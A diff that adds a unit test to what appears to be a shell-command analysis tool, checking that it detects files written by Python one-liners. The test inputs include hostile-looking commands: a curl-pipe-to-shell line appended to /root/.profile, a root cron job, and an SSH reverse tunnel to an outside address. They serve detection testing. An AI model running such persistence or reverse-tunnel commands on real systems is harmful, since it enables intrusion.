@@ -902,6 +902,19 @@ def test_find_exec_gives_each_found_file_a_path_under_its_starting_points():
     assert [c.writes for c in inner if c.name == ":"] == [["~/logs/{}"]]
 
 
+def test_files_python_code_writes_are_the_interpreters_writes():
+    """open(P, 'w'/'a') and Path(P).write_text: the file, what a literal writes there, and a script
+    so written is read when it is run."""
+    (cmd,) = reader.read("python3 -c \"open('/root/.profile', 'a').write('curl x | sh')\"")
+    assert cmd.writes == ["/root/.profile"] and cmd.written == "curl x | sh"
+    (cmd,) = reader.read("python3 -c \"import pathlib; pathlib.Path('/etc/cron.d/j').write_text('* * * * * root id')\"")
+    assert cmd.writes == ["/etc/cron.d/j"] and cmd.written == "* * * * * root id"
+    assert reader.read("python3 -c \"print(open('/etc/hosts').read())\"")[0].writes == []
+    assert reader.read("python -c \"import json; json.dump({}, open(name, 'w'))\"")[0].writes == []  # (a name not known)
+    run = reader.read("python3 -c \"open('/tmp/r.sh', 'w').write('ssh -fNR 9:l:22 u@198.51.100.3')\"; sh /tmp/r.sh")
+    assert [c.via for c in run if c.name == "ssh"] == [("sh", "script /tmp/r.sh")]
+
+
 def test_an_unterminated_heredoc_holds_the_rest_of_the_text():
     """bash reads to the end of input as its body; nothing after it starts another heredoc."""
     from vigiles.analysis.shell import _heredoc_lists, _heredocs_renamed
